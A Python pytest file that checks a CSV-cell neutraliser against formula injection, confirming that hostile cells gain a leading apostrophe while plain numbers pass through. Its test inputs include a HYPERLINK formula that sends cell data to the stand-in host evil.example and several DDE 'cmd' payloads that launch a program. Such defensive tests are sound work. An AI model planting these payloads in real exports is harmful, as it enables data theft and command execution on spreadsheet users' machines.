"""CSV cells neutralised against formulas (OWASP CSV injection), plain numbers kept."""

from __future__ import annotations

import csv
import io

import pytest

from scidip.csvcells import csv_text, neutralise


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e-05", "-1e-05"),
        ("Tokyo = capital", "Tokyo = capital"),
        ("", ""),
        ("小谷", "小谷"),
    ],
)
def test_neutralise(cell: str, written: str) -> None:
    assert neutralise(cell) == written


def test_csv_text_quotes_and_neutralises_every_cell_header_too() -> None:
    text = csv_text(["key", "=title"], [["a", '=1+1, "x"'], ["b", "-0.25"]])
    assert text == 'key,\'=title\na,"\'=1+1, ""x"""\nb,-0.25\n'
    assert list(csv.reader(io.StringIO(text))) == [
        ["key", "'=title"],
        ["a", '\'=1+1, "x"'],
        ["b", "-0.25"],
    ]
